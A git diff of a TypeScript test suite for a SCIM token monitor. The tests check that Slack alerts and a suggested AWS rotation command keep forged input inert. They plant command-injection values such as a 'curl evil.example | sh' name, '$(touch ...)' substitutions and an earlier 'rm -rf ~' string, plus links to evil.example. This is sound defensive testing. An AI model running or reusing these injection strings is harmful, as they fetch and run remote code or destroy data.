@@ -1,3 +1,7 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import * as path from 'node:path';
 import { parse } from 'shell-quote';
 import { chatbotNotification, chatSafe, slackMessage } from '../../core/chat';
 import type { AlertPayload } from '../../core/messages';
@@ -18,6 +22,7 @@ const payload: AlertPayload = {
   tokenSource: 'json',
   identityProvider: 'okta',
   owner: 'platform-team',
+  notes: null,
   reason: null,
   account: '123456789012',
   region: 'eu-west-1',
@@ -67,9 +72,12 @@ describe('chatbotNotification', () => {
 
   it('shows a Slack reader the token, days left, expiry, severity and steps, with a clickable console link', () => {
     const n = chatbotNotification(payload);
-    expect(n.content.title).toBe('🚨 *CRITICAL* SCIM token `okta-prod` expires in 7 days (2027-01-15)');
+    expect(n.content.title).toBe(
+      '🚨 *CRITICAL* SCIM token `okta-prod` expires in 7 days (2027-01-15 00:00 UTC)',
+    );
     expect(n.content.description).toContain('*Days remaining:* 7');
-    expect(n.content.description).toContain('*Expires:* 2027-01-15');
+    // People's time, not a machine's.
+    expect(n.content.description).toContain('*Expires:* 2027-01-15 00:00 UTC');
     expect(n.content.description).toContain('*Severity:* critical (7-day threshold)');
     expect(n.content.nextSteps).toHaveLength(6);
     // A bare https URL: Slack and Teams make it a link.
@@ -77,6 +85,10 @@ describe('chatbotNotification', () => {
       ' https://console.aws.amazon.com/singlesignon/home?region=eu-west-1 ',
     );
     expect(n.content.nextSteps?.[2]).toContain('Provisioning > Integration > Edit');
+    // The command right after its step, placeholders readable (no entities inside code).
+    expect(n.content.nextSteps?.[4]).toMatch(/^Record the new token .*: `aws ssm put-parameter /);
+    expect(n.content.nextSteps?.[4]).toContain('‹new token ID›');
+    expect(JSON.stringify(n)).not.toMatch(/&lt;|&gt;/);
     expect(n.metadata?.threadId).toBe('scim-token-monitor-okta-prod');
   });
 
@@ -85,7 +97,8 @@ describe('chatbotNotification', () => {
     expect(text).not.toMatch(/<!channel>|<!here>|<https:\/\/evil/);
     expect(text).not.toMatch(/@here|@everyone/);
     expect(text).toContain('&lt;!channel&gt;');
-    expect(text).not.toContain('*bold*');
+    // Markdown outside code is broken; inside code (the command keeping the owner) it is inert.
+    expect(text.replace(/`[^`]*`/g, '')).not.toContain('*bold*');
     // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence.
     expect(text).not.toMatch(/[\u0000-\u0008\u001b]/);
     // Inline code cannot be closed early by a backtick in the value.
@@ -95,6 +108,7 @@ describe('chatbotNotification', () => {
   it('keeps only the console link live: links and images from a registration or AWS Health are text', () => {
     const planted = {
       ...payload,
+      notes: null,
       owner: '[Rotate here](https://evil.example/rotate) ![x](https://evil.example/p.png) www.evil.example',
       alertType: 'unregistered-token' as const,
       reason: 'Your token expires. Renew at https://evil.example/renew now.',
@@ -182,21 +196,39 @@ describe('slackMessage', () => {
   });
 });
 
+/** The words bash makes of a command (run with `set --`, so nothing but substitutions could run). */
+function bashWords(command: string): string[] {
+  const out = execFileSync('bash', ['-c', `set -- ${command}; printf '%s\\0' "$@"`], { encoding: 'utf8' });
+  return out.split('\0').slice(0, -1);
+}
+
 describe('rotationSteps', () => {
-  it('never puts registration text into the suggested shell command', () => {
+  it('keeps registration text in the command only as quoted data, as bash reads it', () => {
+    const planted = path.join(mkdtempSync(path.join(tmpdir(), 'scim-shell-')), 'ran');
     const steps = rotationSteps({
       consoleUrl: payload.consoleUrl,
       tokenName: 'okta-prod',
       region: 'eu-west-1',
       parameterName: payload.parameterName,
-      identityProvider: "okta'; rm -rf ~; echo '",
+      identityProvider: `okta'; touch ${planted}; echo '`,
       tokenId: 'x',
       tokenSource: 'json',
+      owner: `$(touch ${planted}) \`touch ${planted}\` "x"`,
+      notes: "it's fine; really",
     });
-    expect(steps[4]?.command).not.toContain('rm -rf');
+    const words = bashWords(steps[4]?.command ?? '');
+    expect(existsSync(planted)).toBe(false);
+    const value = JSON.parse(words[words.indexOf('--value') + 1] ?? '');
+    expect(value).toEqual({
+      createdAt: new Date().toISOString().slice(0, 10),
+      tokenId: '<new token ID>',
+      identityProvider: `okta'; touch ${planted}; echo '`,
+      owner: `$(touch ${planted}) \`touch ${planted}\` "x"`,
+      notes: "it's fine; really",
+    });
   });
 
-  it('quotes for the shell what a forged message could put in the command', () => {
+  it('quotes for the shell what a forged message could put in either command', () => {
     const name = 'x; curl evil.example | sh';
     const steps = rotationSteps({
       consoleUrl: payload.consoleUrl,
@@ -207,25 +239,42 @@ describe('rotationSteps', () => {
       tokenId: 'x',
       tokenSource: 'json',
     });
-    expect(steps[4]?.command).toBe(
-      "npx scim-token-monitor register 'x; curl evil'.'example | sh' --overwrite --created-at today --token-id <new token ID> --region eu-west-1\\$\\(id\\) --prefix '/odd prefix/'",
+    const put = bashWords(steps[4]?.command ?? '');
+    expect(put[put.indexOf('--name') + 1]).toBe(`/odd prefix/${name}`);
+    expect(put[put.indexOf('--region') + 1]).toBe('eu-west-1$(id)');
+    const register = /`(npx [^`]+)`/.exec(steps[4]?.more ?? '')?.[1] ?? '';
+    expect(register).toBe(
+      "npx scim-token-monitor register 'x; curl evil''.''example | sh' --overwrite --created-at today --token-id <new token ID> --region eu-west-1\\$\\(id\\) --prefix '/odd prefix/'",
     );
     // The shell reads the name back whole, as one word: nothing runs.
-    expect(parse(steps[4]?.command ?? '').slice(3, 4)).toEqual([name]);
+    expect(parse(register).slice(3, 4)).toEqual([name]);
   });
 
-  it('records the new token with one command: the token, today, the region and a non-default prefix', () => {
+  it('records the new token with the AWS CLI alone (any machine), today filled in by the shell, the package CLI as the alternative', () => {
     const steps = rotationSteps({
       consoleUrl: 'u',
       tokenName: 'x',
       region: 'eu-central-1',
       parameterName: '/p/x',
-      identityProvider: 'azure-ad',
+      identityProvider: 'entra-id',
       tokenId: null,
       tokenSource: 'json',
+      owner: 'identity-team',
     });
     expect(steps[4]?.command).toBe(
-      'npx scim-token-monitor register x --overwrite --created-at today --token-id <new token ID> --region eu-central-1 --prefix /p/',
+      `aws ssm put-parameter --overwrite --type String --region eu-central-1 --name /p/x --value '{"createdAt":"'"$(date -u +%F)"'","tokenId":"<new token ID>","identityProvider":"entra-id","owner":"identity-team"}'`,
     );
+    expect(steps[4]?.more).toBe(
+      'Or, where the package is installed: `npx scim-token-monitor register x --overwrite --created-at today --token-id <new token ID> --region eu-central-1 --prefix /p/`',
+    );
+    // Confirming comes before recording, and deleting the old token comes last.
+    expect(steps.map((st) => st.text.split(/[.:(]/)[0])).toEqual([
+      'Open IAM Identity Center',
+      'Generate new token and copy it ',
+      'In Microsoft Entra ID',
+      'Confirm provisioning works with the new token',
+      'Record the new token ',
+      'Only now delete the old token in IAM Identity Center',
+    ]);
   });
 });
